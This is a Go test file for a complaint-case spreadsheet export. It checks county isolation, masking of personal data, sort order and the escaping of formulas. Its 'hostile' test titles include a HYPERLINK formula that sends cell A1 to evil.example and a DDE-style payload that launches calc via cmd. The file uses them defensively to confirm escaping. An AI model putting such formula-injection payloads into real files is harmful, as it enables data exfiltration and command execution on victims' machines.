package export_test

import (
	"archive/zip"
	"bytes"
	"io"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"zhitong"
	"zhitong/internal/app"
	"zhitong/internal/export"
	"zhitong/internal/export/exporttest"
	"zhitong/internal/regions"
	"zhitong/internal/setup"
	"zhitong/internal/testkit"
)

// hostile are case titles that a spreadsheet would take for formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"点击查看")`, "+86-797-1234567 转 2", "-1 号楼漏水", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"}

// TestCaseExportJurisdiction sets up two counties on a fresh database and
// exports each one's case list: every case of its own county, none of the
// other, names masked, phones absent, formulas escaped, the title naming
// the county; and the export's order equals the list's for every sort,
// across many keyset batches.
func TestCaseExportJurisdiction(t *testing.T) {
	ctx := t.Context()
	a, _ := testkit.MustApp(t)
	ln := testkit.SetUp(t, a, "360783")
	dn := testkit.Must(setup.New(a).Run(ctx, app.System, setup.Input{Region: "360728", Add: true}))(t)
	lnCommittee := testkit.Principal(t, a, ln, zhitong.RoleCommittee)
	dnCommittee := testkit.Principal(t, a, dn, zhitong.RoleCommittee)
	rs := testkit.Must(regions.Load())(t)
	lnTown, dnTown := rs.Children("360783")[0].Code, rs.Children("360728")[0].Code

	var lnCodes, dnCodes []string
	for i := range 7 {
		title := hostile[i%len(hostile)]
		c := testkit.Must(a.Submit(ctx, zhitong.Citizen, app.IntakeInput{Title: title, Body: "小区路灯不亮，晚上出行不便。" + title,
			RegionCode: lnTown, Name: "张三丰", Phone: "13812345678", IDCard: "360783199001011230"}))(t)
		lnCodes = append(lnCodes, c.Code)
		c = testkit.Must(a.Submit(ctx, zhitong.Citizen, app.IntakeInput{Title: "定南县的路灯坏了", Body: "定南县某村路灯坏了", RegionCode: dnTown, Name: "李四", Phone: "13900001111"}))(t)
		dnCodes = append(dnCodes, c.Code)
	}

	defer func(n int) { app.ExportBatch = n }(app.ExportBatch)
	app.ExportBatch = 3 // seven cases: three batches
	x := export.New(a)
	for _, tc := range []struct {
		p           zhitong.Principal
		county      string
		mine, other []string
	}{{lnCommittee, "龙南市", lnCodes, dnCodes}, {dnCommittee, "定南县", dnCodes, lnCodes}} {
		f := testkit.Must(x.Cases(ctx, tc.p, app.ListInput{}))(t)
		w := httptest.NewRecorder()
		if err := f.Serve(w); err != nil {
			t.Fatal(err)
		}
		body := w.Body.Bytes()
		cd := w.Header().Get("Content-Disposition")
		if !strings.Contains(cd, `filename="cases-`) || !strings.Contains(cd, "filename*=UTF-8''"+escape(tc.county+"案件清单-")) {
			t.Errorf("%s: Content-Disposition %s", tc.county, cd)
		}
		s := exporttest.Open(t, body)[0]
		if !strings.HasPrefix(s.Title, tc.county+"案件清单（截至 ") {
			t.Errorf("title %q", s.Title)
		}
		codes := s.Column(t, "查询码")
		if !sameSet(codes, tc.mine) {
			t.Errorf("%s exported %v, want %v", tc.county, codes, tc.mine)
		}
		for _, c := range tc.other {
			if slices.Contains(codes, c) {
				t.Errorf("%s exported the other county's case %s", tc.county, c)
			}
		}
		raw := unzipped(t, body)
		for _, secret := range []string{"张三丰", "13812345678", "360783199001011230", "李四", "13900001111"} {
			if strings.Contains(raw, secret) {
				t.Errorf("%s: the workbook holds %q", tc.county, secret)
			}
		}
		for _, who := range s.Column(t, "反映人") {
			if who != "张**" && who != "李*" {
				t.Errorf("%s: submitter %q not masked as on screen", tc.county, who)
			}
		}
	}
	// Formulas escaped: every hostile title comes back with a leading quote.
	f := testkit.Must(x.Cases(ctx, lnCommittee, app.ListInput{}))(t)
	var buf bytes.Buffer
	testkit.Must(0, export.Write(&buf, f.Reports...))(t)
	for _, title := range exporttest.Open(t, buf.Bytes())[0].Column(t, "标题") {
		if !strings.HasPrefix(title, "'") || !slices.ContainsFunc(hostile, func(h string) bool { return strings.TrimSpace(h) == title[1:] }) {
			t.Errorf("title %q not escaped", title)
		}
	}
	// The order of every sort is the list's, across batches.
	for _, sort := range []string{"", "due", "updated", "oldest"} {
		list, _ := testkit.Must2(a.List(ctx, lnCommittee, app.ListInput{Sort: sort, PerPage: 100}))(t)
		var want, got []string
		for _, c := range list {
			want = append(want, c.Code)
		}
		cases := testkit.Must(a.ExportCases(ctx, lnCommittee, app.ListInput{Sort: sort}))(t)
		for c, err := range cases {
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, c.Code)
		}
		if !slices.Equal(got, want) {
			t.Errorf("sort %q: export %v, list %v", sort, got, want)
		}
	}
	// The filters are the list's: bad input is refused before any byte.
	testkit.WantCode(t, testkit.Err(x.Cases(ctx, lnCommittee, app.ListInput{Sort: "evil"})), zhitong.EINVALID)
	testkit.WantCode(t, testkit.Err(x.Cases(ctx, lnCommittee, app.ListInput{From: "2026-13-01"})), zhitong.EINVALID)
	f = testkit.Must(x.Cases(ctx, lnCommittee, app.ListInput{From: "2020-01-01", To: "2020-01-31"}))(t)
	buf.Reset()
	testkit.Must(0, export.Write(&buf, f.Reports...))(t)
	if s := exporttest.Open(t, buf.Bytes())[0]; s.Title != "龙南市案件清单（2020-01-01 至 2020-01-31）" || len(s.Rows) != 1 || s.Rows[0][0] != "（无记录）" {
		t.Errorf("empty period: %q %q", s.Title, s.Rows)
	}
}

func sameSet(a, b []string) bool {
	a, b = slices.Clone(a), slices.Clone(b)
	slices.Sort(a)
	slices.Sort(b)
	return slices.Equal(a, b)
}

func escape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c < 0x80 && c != '%' {
			b.WriteByte(c)
		} else {
			b.WriteString("%" + strings.ToUpper(string("0123456789abcdef"[c>>4])+string("0123456789abcdef"[c&15])))
		}
	}
	return b.String()
}

// unzipped is every part of an .xlsx as one string.
func unzipped(t *testing.T, data []byte) string {
	t.Helper()
	zr := testkit.Must(zipReader(data))(t)
	var all strings.Builder
	for _, f := range zr.File {
		rc := testkit.Must(f.Open())(t)
		b, _ := io.ReadAll(rc)
		rc.Close()
		all.Write(b)
	}
	return all.String()
}

func zipReader(data []byte) (*zip.Reader, error) {
	return zip.NewReader(bytes.NewReader(data), int64(len(data)))
}
